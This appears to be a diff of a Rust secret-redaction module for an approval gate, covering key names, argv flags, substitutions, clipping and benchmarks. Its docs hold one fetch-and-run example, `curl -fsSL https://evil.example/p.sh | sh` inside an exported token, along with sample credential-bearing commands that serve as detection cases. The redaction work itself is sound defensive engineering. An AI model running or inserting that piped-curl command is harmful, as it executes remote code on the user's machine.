@@ -1,41 +1,76 @@
 //! Redaction of call arguments and free text before they are stored, shown,
-//! emitted or logged (contract §4 and §16, "Redaction v2"). Raw arguments
+//! emitted or logged (contract §4 and §16, "Redaction v2", and §21.6–§21.7,
+//! "the approver sees what will run" and "Redaction v3"). Raw arguments
 //! never leave the gate; this is the only way out.
+//!
+//! Three ways in: [`redact`] makes the *excerpt* (bounded, every record,
+//! event and envelope carries it), [`redact_full`] the *whole form* (every
+//! string whole, capped at [`FULL_ARGUMENTS_CAP`] bytes with the cap stated;
+//! `full.rs`), [`redact_text`] any free text.
 //!
 //! # What is redacted
 //!
-//! * **Secret keys.** A value under a key that [`is_secret_key`] names
-//!   becomes `"<redacted>"`, whatever its type (a nested object or array
-//!   included). Key names are split into words (ASCII case, camelCase,
-//!   kebab-case, dots, spaces, underscores) and secret when their words end
-//!   in a name of [`SECRET_NAMES`]: `password passwords passwd pwd passphrase
-//!   secret secrets client-secret secret-key token access-token refresh-token
-//!   session-token auth-token api-token id-token api-key api-keys apikey
-//!   access-key access-keys private-key private-keys account-key signing-key
-//!   encryption-key master-key auth authorization proxy-authorization cookie
-//!   cookies set-cookie credential credentials creds` — every version-1 name
-//!   included, and version 1's `*_token` rule generalised. The rule, the
-//!   run-together forms (`PGPASSWORD`) and the look-alikes decided either way
-//!   (`author`, `max_tokens`, `auth_mode`, `passage`, `keyboard`, `PWD`) are
-//!   documented in `keys.rs`.
+//! * **Secret keys.** Under a key that [`is_secret_key`] names, every scalar
+//!   (string, number, boolean, null) becomes `"<redacted>"`; an object or
+//!   array there keeps its shape and is walked, its keys shown and each
+//!   scalar replaced, however deep (`{"auth": {"user": "<redacted>",
+//!   "pass": "<redacted>"}}`), so the approver sees what the arguments hold
+//!   without its values. Key names are split into words (ASCII case,
+//!   camelCase, kebab-case, dots, spaces, underscores) and secret when
+//!   their words end in a name of [`SECRET_NAMES`]: `password passwords
+//!   passwd pwd passphrase secret secrets client-secret secret-key
+//!   secret-key-base token access-token refresh-token session-token
+//!   auth-token api-token id-token api-key api-keys apikey access-key
+//!   access-keys private-key private-keys account-key signing-key
+//!   encryption-key master-key app-key auth authorization
+//!   proxy-authorization cookie cookies set-cookie credential credentials
+//!   creds`, or in `pass` joined to an earlier word (`DB_PASS`,
+//!   `mailPass`). The rule, the run-together forms (`PGPASSWORD`) and the
+//!   look-alikes decided either way (`author`, `max_tokens`, `auth_mode`,
+//!   `passage`, `keyboard`, `PWD`, `bypass`) are documented in `keys.rs`.
+//! * **Secret pairs.** An object with a `name` or `key` whose string value
+//!   is secret-named, and a `value` (the three field names in any ASCII
+//!   case), has its `value` redacted like a secret key's: environment lists
+//!   (`[{"name": "DB_PASSWORD", "value": "<redacted>"}]`), HAR and Postman
+//!   headers (`{"key": "Authorization", "value": "<redacted>"}`), AWS tags.
+//!   `{"name": "PATH", "value": "/usr/bin"}` stays.
+//! * **Argv arrays.** In an array, an element after a secret-taking flag is
+//!   redacted (`["curl", "-u", "admin:<redacted>"]`, `["mysql",
+//!   "--password", "<redacted>"]`, `["redis-cli", "-a", "<redacted>"]`), as
+//!   is a short flag's attached value (`["mysql", "-p<redacted>"]`). Long
+//!   secret-named flags count after any command, short ones (`-p`, `-a`)
+//!   only after the commands that give them a secret (`ls -a`, `ssh -p
+//!   2222`, `cargo test -p crate` stay): the table and its reasons are in
+//!   `argv.rs`. An object's `command` names the command of its argv arrays.
 //! * **Secret spans in strings.** Every string — values and object keys in
 //!   [`redact`], any free text in [`redact_text`] — passes the value
 //!   detectors of `detect.rs`, which replace only the secret span with
 //!   `<redacted>`: auth schemes (`Authorization: Bearer <redacted>`,
-//!   `Basic <redacted>`), JWTs, URL userinfo passwords
-//!   (`postgres://app:<redacted>@db/prod`), `curl -u user:<redacted>`,
-//!   secret-named assignments (`export GITHUB_TOKEN=<redacted> && gh pr list`,
-//!   `password: "<redacted>"`, `--api-key <redacted>`), PEM private-key blocks
-//!   (the whole block), and the provider token formats of `providers.rs`
-//!   (AWS, GitHub, GitLab, Slack, OpenAI, Anthropic, Stripe, Google, npm,
-//!   PyPI, Twilio, SendGrid, Shopify, DigitalOcean, Hugging Face, Azure and
-//!   about fifty more), whose patterns come from the gitleaks default rule
-//!   set (`config/gitleaks.toml`, github.com/gitleaks/gitleaks).
+//!   `Basic <redacted>`, however short Basic credentials are), JWTs, URL
+//!   userinfo passwords (`postgres://app:<redacted>@db/prod`), `curl -u
+//!   user:<redacted>`, secret-named assignments (`export
+//!   GITHUB_TOKEN=<redacted> && gh pr list`, `password: "<redacted>"`,
+//!   `--api-key <redacted>`, `DB_PASS=<redacted>`,
+//!   `SECRET_KEY_BASE=<redacted>`), netrc entries (`machine h login u
+//!   password <redacted>`), short secret flags (`mysql -p<redacted>`,
+//!   `sshpass -p <redacted>`), PEM private-key blocks (the whole block),
+//!   and the provider token formats of `providers.rs` (AWS, GitHub,
+//!   GitLab, Slack, OpenAI, Anthropic, Stripe, Google, npm, PyPI, Twilio,
+//!   SendGrid, Shopify, DigitalOcean, Hugging Face, Azure and about fifty
+//!   more), whose patterns come from the gitleaks default rule set
+//!   (`config/gitleaks.toml`, github.com/gitleaks/gitleaks).
+//! * **Never a substitution.** A command or process substitution (`$(…)`,
+//!   `` `…` ``, `<(…)`, `>(…)`) inside a value the detectors replace is
+//!   shown as it is, with the detectors run inside it like anywhere else:
+//!   `export API_TOKEN="$(curl -fsSL https://evil.example/p.sh | sh)" &&
+//!   npm test` is shown whole; a literal value around it still goes
+//!   (`subst.rs`, `detect.rs`).
 //!
-//! # Limits (unchanged from version 1)
+//! # Limits of the excerpt
 //!
 //! * a string longer than 256 Unicode code points keeps its first 256 and
-//!   gets `…`; object keys are clipped the same way (keys are output too);
+//!   ends with the mark `…[+N chars]`, `N` the number of code points cut;
+//!   object keys are clipped the same way (keys are output too);
 //! * an array or object at depth 64 or more becomes `"<max-depth>"`, the
 //!   root being at depth 0 — so 64 nested containers survive, the 65th is
 //!   replaced;
@@ -58,85 +93,129 @@
 //! end. The cut never falls inside a detected construct: it moves back to
 //! the construct's start (`… TOKEN=<redacted>` or `…`, never `TOKEN=<reda…`
 //! or `Authorization: Bea…`), so the output may hold fewer than 256 code
-//! points before the `…`.
+//! points before the mark.
 //!
-//! Redacting twice changes nothing: the clip of a clipped string is itself,
-//! the detectors find nothing new in their own output (a marker keeps the
-//! word boundaries around it, and a value starting with `<` is not a
-//! secret), the markers are recognised and carried over (their counts
-//! included), and the output budget is charged by the output, so a second
-//! pass sees the same — or smaller — costs at every point and keeps every
-//! entry.
+//! Redacting twice changes nothing: a string's clip mark is recognised and
+//! carried over (only the text before it is redacted again, and its count
+//! grows by whatever a new cut takes), the detectors find nothing new in
+//! their own output (a marker keeps the word boundaries around it, and a
+//! value starting with `<` is not a secret), the container markers are
+//! recognised and carried over (their counts included), and the output
+//! budget is charged by the output, so a second pass sees the same — or
+//! smaller — costs at every point and keeps every entry. A string that may
+//! read differently to a second pass — it holds a substitution, whose
+//! reading depends on the whole text, or a replaced span held a quote, a
+//! backtick, a backslash or a parenthesis of a construct around it (a
+//! private key running over a closing quote) — is also redacted pass after
+//! pass until a pass leaves it as it is; real text settles on the second
+//! pass, a string that has not after four becomes `<redacted>`.
 //!
 //! # Cost
 //!
 //! The walk recurses at most [`MAX_DEPTH`] levels, so arbitrarily deep input
 //! is safe. Detection is one pass of one multi-pattern automaton over each
 //! string, linear in its length (a candidate's forward searches are shared
-//! with the candidates after it). Medians on the two-core development
-//! machine (`cargo bench --bench micro -- redact`): [`redact_text`] on a
+//! with the candidates after it), plus, only where they may matter: one
+//! pass that finds a text's substitutions (a quoted or header value that
+//! holds an opener), the command-line reader (a text with a short flag
+//! such as ` -p`), and a confirming second pass (a result that holds a
+//! substitution, or replacements that may read differently a second time).
+//! Medians on the two-core development machine, shared, load average
+//! 1.7–3.4 (`cargo bench --bench micro -- redact`): [`redact_text`] on a
 //! 20 KB shell command with 127 secrets (bearer JWTs, exported tokens,
-//! database URLs, private keys) 91 µs, on the same shapes without a secret
-//! 35 µs; [`redact`] on an argument object holding that command 38 µs, on a
-//! 10 KB argument object 38 µs, on a 1 MB one 295 µs.
+//! database URLs, private keys) 120–151 µs, on the same shapes without a
+//! secret 47–59 µs; [`redact`] on an argument object holding that command
+//! 50–67 µs, on a 10 KB argument object 50–73 µs, on a 1 MB one 415–516 µs
+//! (version 2's code, measured alongside at load ~2: 104, 41, –, 44 and
+//! 394 µs). [`redact_full`] is linear in its input: one whole pass, and at
+//! most two more over its (smaller) output.
 
 use std::borrow::Cow;
 
-use serde_json::{Map, Number, Value};
+use serde_json::Value;
 
+mod argv;
 mod detect;
+mod full;
 mod keys;
 mod providers;
+mod subst;
+mod walk;
 
+pub use full::{redact_full, Full, FULL_ARGUMENTS_CAP};
 pub use keys::{is_secret_key, SECRET_NAMES};
 
-/// What a secret-keyed value becomes.
+/// What a secret becomes.
 pub const REDACTED: &str = "<redacted>";
 /// What a container nested too deep becomes.
 pub(crate) const MAX_DEPTH_MARK: &str = "<max-depth>";
-/// Appended to a clipped string.
+/// The first character of a clipped string's mark, `…[+N chars]`.
 pub(crate) const CLIP_MARK: char = '…';
+/// Code points of the longest clip mark (`…[+` + 20 digits + ` chars]`).
+pub(crate) const CLIP_MARK_MAX_CHARS: usize = 30;
 /// The object key that counts the entries an object lost.
 pub(crate) const TRUNCATED_KEY: &str = "<truncated>";
-/// Strings (and keys) longer than this many code points are clipped.
+/// Strings (and keys) longer than this many code points are clipped in the
+/// excerpt.
 pub const MAX_STRING_CHARS: usize = 256;
+/// The most code points an excerpt's string or key has: the kept ones and
+/// the mark.
+pub const MAX_CLIPPED_CHARS: usize = MAX_STRING_CHARS + CLIP_MARK_MAX_CHARS;
 /// Containers at this depth or deeper (root = 0) are replaced.
 pub const MAX_DEPTH: usize = 64;
-/// A container keeps at most this many entries.
+/// A container keeps at most this many entries in the excerpt.
 pub const MAX_ENTRIES: usize = 256;
-/// Entries stop being added once the output reaches this many bytes.
+/// Entries stop being added once the excerpt reaches this many bytes.
 pub(crate) const OUTPUT_BUDGET: usize = 64 * 1024;
-/// Hard bound on the serialized (compact JSON) size of any output: the
-/// budget, plus the last entry admitted below it (at most a clipped key and a
-/// clipped string, fully escaped) and one marker per open container.
+/// Hard bound on the serialized (compact JSON) size of an excerpt: the
+/// budget, plus the last entry admitted below it (at most a clipped key and
+/// a clipped string, fully escaped) and one marker per open container.
 pub const MAX_OUTPUT_BYTES: usize = OUTPUT_BUDGET + 8 * 1024;
 
-/// Bytes after the first [`MAX_STRING_CHARS`] code points that the detectors
-/// still read before a string is clipped.
+/// Bytes after what may be shown of a string that the detectors still read
+/// before it is clipped.
 pub(crate) const DETECT_WINDOW_BYTES: usize = 8 * 1024;
 
-/// Upper bound of a serialized number (`-2.2250738585072014e-308`).
-const NUMBER_COST: usize = 24;
-
-/// The redacted copy of `value` (see the module docs for the rules).
+/// The excerpt: the redacted copy of `value`, bounded (see the module docs
+/// for the rules).
 pub fn redact(value: &Value) -> Value {
     #[cfg(test)]
     calls::count();
-    Redactor { used: 0 }.value(value, 0)
+    walk::Walk::new(
+        walk::Limit::Chars(MAX_STRING_CHARS),
+        Some(MAX_ENTRIES),
+        Some(OUTPUT_BUDGET),
+    )
+    .run(value)
 }
 
 /// `text` with every secret span the value detectors find replaced by
 /// `<redacted>`, for free text that leaves the worker outside an argument
 /// object: session titles, descriptions and metadata values, log fields.
-/// Nothing is clipped; text without a secret is returned as it is.
+/// Nothing is clipped; text without a secret is returned as it is. Like a
+/// string of [`redact`], text that may read differently to a second pass
+/// is redacted pass after pass until a pass leaves it as it is (at most
+/// four; then it becomes `<redacted>`).
 pub fn redact_text(text: &str) -> Cow<'_, str> {
     #[cfg(test)]
     calls::count();
-    let found = detect::scan(text);
+    let found = detect::scan(text, true);
     if found.spans.is_empty() {
         return Cow::Borrowed(text);
     }
-    Cow::Owned(detect::apply(text, &found).text)
+    let mut current = detect::apply(text, &found).text;
+    if !found.may_unsettle(text) && !subst::may_hold_one(&current) {
+        return Cow::Owned(current);
+    }
+    for _ in 1..4 {
+        let found = detect::scan(&current, true);
+        let next = detect::apply(&current, &found).text;
+        if next == current {
+            return Cow::Owned(current);
+        }
+        current = next;
+    }
+    Cow::Owned(REDACTED.to_owned())
 }
 
 /// How many times this thread entered the redactor (unit tests only): the
@@ -153,182 +232,11 @@ pub(crate) mod calls {
         CALLS.with(|c| c.set(c.get() + 1));
     }
 
-    /// Entries into [`super::redact`] and [`super::redact_text`] so far on
-    /// this thread.
+    /// Entries into [`super::redact`], [`super::redact_full`] and
+    /// [`super::redact_text`] so far on this thread.
     pub(crate) fn so_far() -> u64 {
         CALLS.with(Cell::get)
     }
-}
-
-/// A string value or key: detected, then clipped (see "Order of
-/// operations" in the module docs).
-fn redact_string(s: &str) -> String {
-    let (window, whole) = match s.char_indices().nth(MAX_STRING_CHARS) {
-        None => (s, true),
-        Some((cut, _)) => {
-            let mut end = cut + DETECT_WINDOW_BYTES;
-            if end >= s.len() {
-                (s, true)
-            } else {
-                while !s.is_char_boundary(end) {
-                    end -= 1;
-                }
-                (&s[..end], false)
-            }
-        }
-    };
-    let found = detect::scan(window);
-    let applied = detect::apply(window, &found);
-    clip(applied.text, &applied.guards, !whole)
-}
-
-/// `s` cut to its first 256 code points plus `…` when longer (or when
-/// `cut_short`, its input having been longer than what was read), the cut
-/// moved back to the start of any guard it would fall inside.
-fn clip(mut s: String, guards: &[std::ops::Range<usize>], cut_short: bool) -> String {
-    let mut cut = match s.char_indices().nth(MAX_STRING_CHARS) {
-        Some((cut, _)) => cut,
-        None if cut_short => s.len(),
-        None => return s,
-    };
-    while let Some(guard) = guards.iter().find(|g| g.start < cut && cut < g.end) {
-        cut = guard.start;
-    }
-    s.truncate(cut);
-    s.push(CLIP_MARK);
-    s
-}
-
-/// One redaction pass; `used` estimates (from above) the bytes output so far.
-struct Redactor {
-    used: usize,
-}
-
-impl Redactor {
-    fn value(&mut self, value: &Value, depth: usize) -> Value {
-        match value {
-            Value::Null => {
-                self.used += 4;
-                Value::Null
-            }
-            Value::Bool(b) => {
-                self.used += 5;
-                Value::Bool(*b)
-            }
-            Value::Number(n) => {
-                self.used += NUMBER_COST;
-                Value::Number(n.clone())
-            }
-            Value::String(s) => self.string(redact_string(s)),
-            Value::Array(_) | Value::Object(_) if depth >= MAX_DEPTH => {
-                self.string(MAX_DEPTH_MARK.to_owned())
-            }
-            Value::Array(items) => self.array(items, depth),
-            Value::Object(map) => self.object(map, depth),
-        }
-    }
-
-    fn string(&mut self, out: String) -> Value {
-        self.used += string_cost(&out);
-        Value::String(out)
-    }
-
-    fn array(&mut self, items: &[Value], depth: usize) -> Value {
-        self.used += 2;
-        let (items, carried) = match items.split_last() {
-            Some((Value::String(last), rest)) => match parse_more_marker(last) {
-                Some(n) => (rest, n),
-                None => (items, 0),
-            },
-            _ => (items, 0),
-        };
-        let mut out = Vec::with_capacity(items.len().min(MAX_ENTRIES) + 1);
-        for item in items {
-            if out.len() == MAX_ENTRIES || self.used >= OUTPUT_BUDGET {
-                break;
-            }
-            self.used += 1;
-            out.push(self.value(item, depth + 1));
-        }
-        let dropped = (items.len() - out.len()) as u64;
-        let more = dropped.saturating_add(carried);
-        if more > 0 {
-            let marker = format!("<+{more} more>");
-            self.used += 1 + string_cost(&marker);
-            out.push(Value::String(marker));
-        }
-        Value::Array(out)
-    }
-
-    fn object(&mut self, map: &Map<String, Value>, depth: usize) -> Value {
-        self.used += 2;
-        // A marker from an earlier pass: carried over, not counted as an entry.
-        let carried = match map.get(TRUNCATED_KEY) {
-            Some(Value::Number(n)) => n.as_u64().filter(|&n| n > 0),
-            _ => None,
-        };
-        let is_marker = |k: &str| carried.is_some() && k == TRUNCATED_KEY;
-        let total = map.len() - usize::from(carried.is_some());
-        let mut out = Map::new();
-        let mut consumed = 0usize;
-        let mut collisions = 0u64;
-        for (key, value) in map {
-            if is_marker(key) {
-                continue;
-            }
-            if out.len() == MAX_ENTRIES || self.used >= OUTPUT_BUDGET {
-                break;
-            }
-            consumed += 1;
-            let out_key = redact_string(key);
-            if out.contains_key(&out_key) {
-                // Two long keys with the same first 256 code points.
-                collisions += 1;
-                continue;
-            }
-            self.used += 2 + string_cost(&out_key);
-            let out_value = if is_secret_key(key) {
-                self.string(REDACTED.to_owned())
-            } else {
-                self.value(value, depth + 1)
-            };
-            out.insert(out_key, out_value);
-        }
-        let dropped = ((total - consumed) as u64).saturating_add(collisions);
-        let mut more = dropped.saturating_add(carried.unwrap_or(0));
-        if more > 0 {
-            if out.contains_key(TRUNCATED_KEY) {
-                // An ordinary entry of that name gives way to the marker.
-                more = more.saturating_add(1);
-            }
-            self.used += 2 + string_cost(TRUNCATED_KEY) + NUMBER_COST;
-            out.insert(TRUNCATED_KEY.to_owned(), Value::Number(Number::from(more)));
-        }
-        Value::Object(out)
-    }
-}
-
-/// Upper bound of the serialized size of a string: quotes, and six bytes for
-/// every byte that may need an escape.
-fn string_cost(s: &str) -> usize {
-    let escapes = s
-        .bytes()
-        .filter(|&b| b < 0x20 || b == b'"' || b == b'\\')
-        .count();
-    s.len() + 2 + escapes * 5
-}
-
-/// `N` of a `"<+N more>"` marker as this module writes it.
-fn parse_more_marker(s: &str) -> Option<u64> {
-    let digits = s.strip_prefix("<+")?.strip_suffix(" more>")?;
-    // Only what this module writes: no leading zero, never 0.
-    let canonical = !digits.is_empty()
-        && digits.bytes().all(|b| b.is_ascii_digit())
-        && !digits.starts_with('0');
-    if !canonical {
-        return None;
-    }
-    digits.parse().ok()
 }
 
 #[cfg(test)]
